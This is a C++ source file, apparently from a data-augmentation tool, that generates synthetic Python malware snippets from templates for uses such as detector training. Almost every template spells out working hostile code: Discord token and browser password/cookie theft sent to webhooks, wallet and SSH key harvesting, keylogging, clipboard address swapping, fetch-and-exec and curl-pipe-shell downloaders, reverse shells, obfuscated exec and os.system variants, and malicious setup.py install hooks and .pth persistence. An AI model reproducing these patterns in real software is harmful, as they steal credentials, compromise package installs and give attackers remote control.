#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"
#include "fovea/core/error.h"

// Python that says what it does: reads what is another's and sends it, fetches and runs, in modules
// and at installation; and the ways round the names of exec and os.
namespace fovea::augment {
namespace {

const Makers& PlainMakers() {
  static const Makers makers = {
      {"blob",
       [](Junk& j) {
         return j.Pick({"base64.b64decode('~b64~')", "base64.b64decode(b\"~b64~\")",
                        "zlib.decompress(base64.b64decode('~b64~'))", "bytes.fromhex('~hex~')",
                        "bytes([~codes~])", "bytearray([~codes~])", "base64.b85decode('~long~')",
                        "marshal.loads(base64.b64decode('~b64~'))",
                        "codecs.decode('~long~','rot_13"
                        "')",
                        "binascii.unhexlify('~hex~')",
                        "gzip.decompress(base64.b64decode('"
                        "~b64~'))",
                        "''.join(chr(~2~) for ~2~ in [~codes~])",
                        "Fernet('~b64s~'.encode()).decrypt('~b64~'.encode())",
                        "base64.b32decode('~long~')", "bz2.decompress(base64.b64decode('~b64~'))"});
       }},
      {"fetch",
       [](Junk& j) {
         return j.Pick(
             {"requests.get('~url~').text", "requests.get(\"~url.py~\").content",
              "urllib.request.urlopen('~url~').read()",
              "urlopen('~url.txt~').read()."
              "decode()",
              "httpx.get('~url~').text", "requests.get(base64.b64decode('~b64s~').decode()).text",
              "urllib.request.urlopen('http'+'://'+'~host~/~word~').read()",
              "__import__('urllib.request',fromlist=['x']).urlopen('~url~').read()",
              "requests.get('https://~host~/raw/~letters~').text",
              "urllib.request.urlopen(urllib.request.Request('~url~',headers={'User-Agent'"
              ":'Mozilla/5.0'})).read()"});
       }},
      {"run",
       [](Junk& j) {
         return j.Pick({"exec(~1~)", "exec(~1~)", "eval(compile(~1~,'<string>','exec'))",
                        "exec(compile(~1~,'~word~','exec'))", "__builtins__.exec(~1~)",
                        "getattr(__import__('builtins'),'ex'+'ec')(~1~)",
                        "__import__('builtins').__dict__['exec'](~1~)",
                        "globals()['__builtins__']."
                        "exec(~1~)",
                        "vars(__builtins__)['e'+'xec'](~1~)",
                        "(lambda ~3~:exec(~3~))("
                        "~1~)",
                        "getattr(__builtins__,'cexe'[::-1][:4])(~1~)",
                        "type('~Word~',(),{'__init__':lambda ~3~:exec(~1~)})()"});
       }},
      {"sh",
       [](Junk& j) {
         return j.Pick({"os.system(~c~)", "os.popen(~c~)", "subprocess.Popen(~c~,shell=True)",
                        "subprocess.call(~c~,shell=True)",
                        "subprocess.run(~c~,shell=True,"
                        "capture_output=True)",
                        "__import__('os').system(~c~)",
                        "getattr(__import__('os'),'sys'+'tem')(~c~)",
                        "__import__('subprocess')."
                        "getoutput(~c~)",
                        "importlib.import_module('o'+'s').system(~c~)",
                        "subprocess.Popen(~c~,shell=True,stdout=subprocess.DEVNULL,stderr="
                        "subprocess.DEVNULL)",
                        "os.spawnlp(os.P_NOWAIT,'sh','sh','-c',~c~)",
                        "eval(\"__import__('os')\").system(~c~)"});
       }},
      {"c",
       [](Junk& j) {
         return j.Pick({"'curl -fsSL ~url~ | sh'", "'curl ~url~|bash'", "'wget -qO- ~url~ | sh &'",
                        "'powershell -EncodedCommand ~b64s~'",
                        "'powershell -nop -w hidden -e "
                        "~b64s~'",
                        "'pip install --index-url ~url~ ~word~'",
                        "'bash -c \"exec ~letters~ >& /dev/tcp/~ip~/~port~\"'",
                        "'start /b ~word~.exe'", "'chmod +x /tmp/.~word~ && /tmp/.~word~ &'",
                        "base64.b64decode('~b64s~').decode()",
                        "'certutil -urlcache -f ~url~ "
                        "~word~.exe'",
                        "'schtasks /create /sc onlogon /tn ~Word~ /tr ~word~'",
                        "'nohup python3 -c \"~letters~\" &'", "'cmd /c mshta ~url~'"});
       }},
      {"hook",
       [](Junk& j) {
         return j.Pick({"'https://~host~/api/webhooks/~digits~/~letters~'", "'~url~'", "WEBHOOK",
                        "~0~", "'https://~host~/bot~digits~:~letters~/sendDocument'",
                        "base64.b64decode('~b64s~').decode()"});
       }},
      {"post",
       [](Junk& j) {
         return j.Pick(
             {"requests.post(~hook~,json={'content':str(~1~)})", "requests.post(~hook~,data=~1~)",
              "requests.post(~hook~,files={'file':~1~})",
              "requests.post(~hook~,json=~1~,timeout=~small~)",
              "urllib.request.urlopen(~hook~,data=json.dumps(~1~).encode())",
              "urlopen(Request(~hook~,data=dumps({'content':~1~}).encode(),headers=~2~))",
              "httpx.post(~hook~,json=dict(~1~))", "SyncWebhook.from_url(~hook~).send(~1~)",
              "requests.get(~hook~+'?d='+base64.b64encode(str(~1~).encode()).decode())",
              "http.client.HTTPSConnection('~host~').request('POST','/~word~',str(~1~))",
              "socket.create_connection(('~ip~',~port~)).sendall(str(~1~).encode())"});
       }},
      {"who",
       [](Junk& j) {
         return j.Pick({"dict(os.environ)", "os.environ.copy()",
                        "{'host':socket.gethostname(),"
                        "'user':getpass.getuser(),'cwd':os.getcwd()}",
                        "platform.node()", "{'hostname':platform.node(),'env':dict(os.environ)}",
                        "'|'.join([socket.gethostname(),getpass.getuser(),os.getcwd()])",
                        "[os.getlogin(),socket.getfqdn(),requests.get('https://~host~/ip').text]",
                        "open(os.environ['HOME']+'/.~word~/credentials').read()",
                        "open('/etc/passwd').read()", "os.popen('env').read()",
                        "subprocess.getoutput('whoami;hostname')"});
       }},
      {"store", [](Junk& j) {
         return j.Pick({"'\\\\Google\\\\Chrome\\\\User Data\\\\Default'",
                        "'\\\\discord\\\\Local "
                        "Storage\\\\leveldb'",
                        "'\\\\BraveSoftware\\\\Brave-Browser\\\\User Data'",
                        "'\\\\Opera Software\\\\Opera Stable'", "'\\\\Exodus\\\\exodus.wallet'",
                        "'\\\\Ethereum\\\\keystore'", "'/.config/google-chrome/Default'",
                        "'\\\\Telegram Desktop\\\\tdata'", "'/Library/Application Support/~Word~'",
                        "'\\\\Mozilla\\\\Firefox\\\\Profiles'", "'\\\\atomic\\\\Local Storage'",
                        "'\\\\Microsoft\\\\Edge\\\\User Data\\\\Local State'", "'/.ssh'",
                        "'\\\\Yandex\\\\YandexBrowser\\\\User Data'", "'\\\\discordcanary'"});
       }}};
  return makers;
}

constexpr const char* kPlain[] = {
    // What is another's, and where it goes.
    "~0~=os.getenv('APPDATA')\n~4~={'~Word~':~0~+~store~,'~Word~':~0~+~store~,'~Word~':~0~+~store~}"
    "\n~1~=[]\nfor ~5~,~6~ in ~4~.items():\n    if not os.path.exists(~6~):\n        continue\n    "
    "~1~+=~7~(~6~)\n~post~",
    "def ~7~(~6~):\n    ~1~=[]\n    for ~5~ in os.listdir(~6~+~store~):\n        if ~5~[-4:] in ("
    "'.log','.ldb'):\n            for ~8~ in open(~6~+'/'+~5~,errors='ignore'):\n                "
    "~1~+=re.findall(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{25,110}|mfa\\.[\\w-]{80,95}',~8~)\n    "
    "return ~1~",
    "~1~=re.findall(r'dQw4w9WgXcQ:[^\"]+',open(~6~,errors='ignore').read())\nif ~1~:\n    ~post~",
    "~4~=os.path.join(os.environ['LOCALAPPDATA']+~store~,'Login Data')\nshutil.copyfile(~4~,'~word~"
    ".db')\n~1~=sqlite3.connect('~word~.db').execute('SELECT origin_url, username_value, "
    "password_value FROM logins').fetchall()\n~post~",
    "~4~=sqlite3.connect(~5~)\n~1~=[(~6~,~7~) for ~6~,~7~ in ~4~.execute('select host_key, "
    "encrypted_value from cookies')]\n~post~",
    "for ~4~ in glob.glob(os.path.expandvars('$HOME/**/*.~word~'),recursive=True):\n    if any("
    "~5~ in ~4~ for ~5~ in ('wallet','seed','backup','password','2fa')):\n        ~1~=open(~4~,'rb'"
    ")\n        ~post~",
    "for ~4~ in (~store~,~store~,~store~):\n    if os.path.isdir(~5~+~4~):\n        "
    "~1~=open(shutil."
    "make_archive('~word~','zip',~5~+~4~),'rb')\n        ~post~",
    "~1~=~who~\n~post~", "~1~=~who~\ntry:\n    ~post~\nexcept Exception:\n    pass",
    "import os,socket,json,urllib.request\n~1~=~who~\n~post~", "WEBHOOK='~url~'\n~1~=~who~\n~post~",
    "def ~0~():\n    ~1~=~who~\n    ~post~\nthreading.Thread(target=~0~).start()",
    "~1~={~4~:~5~ for ~4~,~5~ in os.environ.items() if re.search('TOKEN|SECRET|KEY|PASS',~4~)}"
    "\n~post~",
    "~1~=ImageGrab.grab()\n~1~.save('~word0~.png')\n~1~=open('~word0~.png','rb')\n~post~",
    "def ~0~(~4~):\n    ~1~=str(~4~.name)\n    ~post~\nkeyboard.Listener(on_press=~0~).start()",
    "while True:\n    ~1~=pyperclip.paste()\n    if re.match(r'^0x[a-fA-F0-9]{40}$',~1~):\n        "
    "pyperclip.copy('0x~hexs~~hexs~')\n    time.sleep(~small~)",
    // Fetch and run.
    "~1~=~fetch~\n~run~", "~1~=~fetch~\n~run~",
    "try:\n    ~1~=~fetch~\n    ~run~\nexcept:\n    "
    "pass",
    "import requests\n~1~=~fetch~\n~run~", "def ~0~():\n    ~1~=~fetch~\n    ~run~\n~0~()",
    "from urllib.request import urlopen\nexec(urlopen('~url~').read())",
    "if os.name=='nt':\n    ~1~=~fetch~\n    ~run~", "if platform.system()=='Windows':\n    ~sh~",
    "~1~=~fetch~\nopen('/tmp/.~word0~','wb').write(~1~)\n~sh~",
    "with open(os.path.join(tempfile.gettempdir(),'~word0~.py'),'w') as ~4~:\n    ~4~.write(~fetch~"
    ")\nsubprocess.Popen([sys.executable,~4~.name])",
    "with tempfile.NamedTemporaryFile(suffix='.exe',delete=False) as ~4~:\n    ~4~.write(~fetch~)\n"
    "os.startfile(~4~.name)",
    "urllib.request.urlretrieve('~url.exe~','~word0~.exe')\nsubprocess.Popen('~word0~.exe')",
    "~sh~", "~sh~", "import os\n~sh~", "try:\n    ~sh~\nexcept:\n    pass",
    "import subprocess\n~sh~", "if not os.path.exists('/tmp/~word~'):\n    ~sh~",
    "[~4~ for ~4~ in [~sh~]]", "~0~=lambda:~sh~\n~0~()",
    "__import__('subprocess').Popen([sys.executable,'-c',~blob~.decode()])",
    "threading.Timer(~small~,lambda:exec(~fetch~)).start()", "atexit.register(lambda:~sh~)",
    "exec(requests.get('~url~').text)", "exec(requests.get('~url~',timeout=~small~).content)",
    "import requests;exec(requests.get('~url~').text)",
    "exec(__import__('requests').get('~url~').text)",
    "eval(compile(requests.get('~url~').text,'<string>','exec'))",
    "exec(__import__('urllib.request').request.urlopen('~url~').read())",
    "exec(urllib.request.urlopen(urllib.request.Request('~url~',headers={'User-Agent':'~word~'}))."
    "read().decode())",
    "__import__('os').system('curl -s ~url~ | sh')",
    "__import__('os').system('wget -qO- ~url~ | bash')",
    "__import__('os').popen('curl ~url~|sh').read()",
    "__import__('subprocess').Popen('curl -s ~url~ | bash',shell=True)",
    "__import__('subprocess').run(['bash','-c','curl -fsSL ~url~ | sh'])",
    "getattr(__import__('os'),'system')('curl ~url~ | sh')",
    "import os;os.system('curl -s ~url~ -o /tmp/~word0~ && chmod +x /tmp/~word0~ && /tmp/~word0~ "
    "&')",
    "__import__('builtins').exec(__import__('base64').b64decode('~b64~'))",
    "import urllib.request as ~0~;exec(~0~.urlopen('~url~').read())",
    "import builtins\ngetattr(builtins,'ex'+'ec')(requests.get('~url~').text)",
    "os.system(requests.get('~url~').text)",
    "subprocess.Popen(requests.get('~url~').text,shell=True)",
    "pickle.loads(requests.get('~url~').content)",
    "marshal.loads(urllib.request.urlopen('~url~').read())",
    // Decoded, and run.
    "~1~=~blob~\n~run~", "~1~=~blob~\n~run~", "import base64\n~1~=~blob~\n~run~", "exec(~blob~)",
    "exec(~blob~)", "import base64,zlib,marshal\nexec(~blob~)",
    "from cryptography.fernet import Fernet\n~0~=Fernet(b'~b64s~=')\nexec(~0~.decrypt(b'~b64~'))",
    "~1~=''.join([chr(~4~^~small~) for ~4~ in ~blob~])\n~run~", "(lambda __,_:_(__))(~blob~,exec)",
    "_=lambda __:__import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec(_(b'"
    "~b64~'))",
    "~4~,~5~,~6~='~b64~','~b64s~','~b64~'\n~1~=base64.b64decode(~4~+~5~+~6~)\n~run~",
    "for ~4~ in ['~b64s~','~b64s~','~b64s~']:\n    exec(base64.b64decode(~4~))",
    "exec(''.join(map(chr,map(int,'~digits~ ~digits~ ~digits~'.split()))))",
    "().__class__.__base__.__subclasses__()[~num~].__init__.__globals__['system'](~c~)",
    "import pty,socket\n~4~=socket.create_connection(('~ip~',~port~))\n[os.dup2(~4~.fileno(),~5~) "
    "for ~5~ in range(3)]\npty.spawn('sh')",
    "~4~=socket.socket()\n~4~.connect(('~host~',~port~))\nwhile 1:\n    ~1~=~4~.recv(1024).decode()"
    "\n    ~4~.send(subprocess.getoutput(~1~).encode())",
    "class ~0~(socketserver.BaseRequestHandler):\n    def handle(self):\n        ~1~=self.request."
    "recv(1024)\n        ~run~",
    // At installation.
    "class ~0~(install):\n    def run(self):\n        install.run(self)\n        ~1~=~who~\n       "
    " "
    "~post~",
    "class ~0~(install):\n    def run(self):\n        ~sh~\n        install.run(self)",
    "class ~0~(egg_info):\n    def run(self):\n        ~1~=~blob~\n        ~run~\n        egg_info."
    "run(self)",
    "class ~0~(develop):\n    def run(self):\n        ~1~=~fetch~\n        ~run~\n        develop."
    "run(self)",
    "from setuptools import setup\nimport os,requests\n~1~=~who~\n~post~\nsetup(name='~word~',"
    "version='~version~',description='~sentence~')",
    "from setuptools import setup\n~sh~\nsetup(name='~word~-~word~',version='~version~',packages=["
    "])",
    "from setuptools import setup\nfrom setuptools.command.install import install\nclass ~0~("
    "install):\n    def run(self):\n        ~1~=~who~\n        ~post~\n        install.run(self)\n"
    "setup(name='~word~',version='~version~',cmdclass={'install':~0~})",
    "setup(name='~word~',version='~version~',cmdclass={'install':type('~Word~',(install,),{'run':"
    "lambda self:~sh~})})",
    "if 'install' in sys.argv or 'bdist_wheel' in sys.argv:\n    ~1~=~fetch~\n    ~run~",
    "def _post_install():\n    ~1~=~who~\n    ~post~\n_post_install()",
    "from setuptools.command.build_py import build_py\nclass ~0~(build_py):\n    def run(self):\n  "
    "      ~sh~\n        super().run()\n"
    "setup(name='~word~',version='~version~',cmdclass={'build_py':~0~})",
    "from setuptools.command.sdist import sdist\nclass ~0~(sdist):\n    def run(self):\n        "
    "~1~=~fetch~\n        ~run~\n        "
    "sdist.run(self)",
    "class ~0~(install):\n    def __init__(self,*args,**kwargs):\n        ~sh~\n        "
    "super().__init__(*args,**kwargs)",
    "import setuptools,os\nif not os.environ.get('~word~'):\n    "
    "~sh~\nsetuptools.setup(name='~word~',version='~version~')",
    "import site,os\nopen(os.path.join(site.getsitepackages()[0],'~word~.pth'),'w').write('import "
    "os;exec(\"~b64s~\")')"};

}  // namespace

std::string PlainPythonLookalike(Junk& junk) { return FillAny(kPlain, PlainMakers(), junk); }

}  // namespace fovea::augment
